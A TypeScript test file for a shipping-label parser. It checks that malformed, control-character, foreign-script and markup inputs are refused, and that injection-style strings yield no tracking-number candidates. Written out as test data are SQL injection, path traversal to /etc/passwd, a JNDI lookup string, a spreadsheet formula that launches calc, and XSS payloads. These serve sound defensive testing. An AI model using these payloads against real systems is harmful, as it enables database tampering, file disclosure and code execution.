import { describe, expect, it } from 'vitest';
import { normaliseNumber } from './normalise-number.ts';
import { readLabel } from './read-label.ts';

const good = '1Z5R89390357567127';

describe('refusals', () => {
  it.each([
    ['a number', 5, 'label.not_text'],
    ['nothing', undefined, 'label.not_text'],
    ['null', null, 'label.not_text'],
    ['an object', { toString: () => good }, 'label.not_text'],
    ['an empty text', '', 'label.empty'],
    ['spaces', '   ', 'label.empty'],
    ['only separators', '\u001d\u001e\u0004', 'label.empty'],
    ['513 characters', '1'.repeat(513), 'label.too_long'],
    ['a megabyte', good.repeat(60_000), 'label.too_long'],
    ['NUL', `${good}\u0000`, 'label.control_characters'],
    ['a line break', `${good}\n`, 'label.control_characters'],
    ['an escape', `\u001b[31m${good}`, 'label.control_characters'],
    ['a C1 control', `\u009b${good}`, 'label.control_characters'],
    ['a bidirectional override', `\u202e${good}`, 'label.control_characters'],
    ['a bidirectional isolate', `\u2066${good}\u2069`, 'label.control_characters'],
    ['a zero-width space', `1Z5R8939\u200b0357567127`, 'label.control_characters'],
    ['a byte order mark', `\ufeff${good}`, 'label.control_characters'],
    ['a soft hyphen', `1Z5R8939\u00ad0357567127`, 'label.control_characters'],
    ['a filler that shows nothing', `${good}\u3164`, 'label.control_characters'],
    ['a lone high surrogate', `${good}\ud800`, 'label.control_characters'],
    ['a lone low surrogate', `\udc00${good}`, 'label.control_characters'],
    ['Arabic digits', '٣٣١٨٨١٠٠٢٥', 'label.foreign_characters'],
    ['full-width digits', '３３１８８１００２５', 'label.foreign_characters'],
    ['a Cyrillic letter', 'ТBA000000000000', 'label.foreign_characters'],
    ['a no-break space', `1Z\u00a05R89390357567127`, 'label.foreign_characters'],
    ['an emoji', `${good}📦`, 'label.foreign_characters'],
    ['a script', `<script>alert(1)</script>`, 'label.markup'],
    ['a picture', `${good}"><img src=x onerror=alert(1)>`, 'label.markup'],
    ['markup after a message header', `[)>\u001e01\u001d96<b>`, 'label.markup'],
  ])('%s', (_name, text, reason) => {
    // The cast stands for callers without types: a page, a webhook, a scanner's driver.
    expect(readLabel(text as string)).toEqual({ kind: 'refused', reason });
    expect(normaliseNumber(text as string)).toBe('');
  });

  it.each([
    `${good}' OR '1'='1`,
    `${good}; DROP TABLE parcels;--`,
    `${good}--`,
    `1Z5R8939\u001d0357567127/../../etc/passwd`,
    '../../etc/passwd',
    'https://example.invalid/1Z5R89390357567127',
    'javascript:alert(1)',
    '${jndi:ldap://example.invalid/a}',
    '{{7*7}}',
    '%00%0d%0a',
    "=cmd|'/c calc'!A1",
    'AND 1=1',
  ])('%j yields nothing', (text) => {
    expect(readLabel(text)).toEqual({ kind: 'read', text, candidates: [] });
  });

  it('takes the longest text that it says it takes', () => {
    expect(readLabel('1'.repeat(512))).toMatchObject({ kind: 'read' });
  });
});
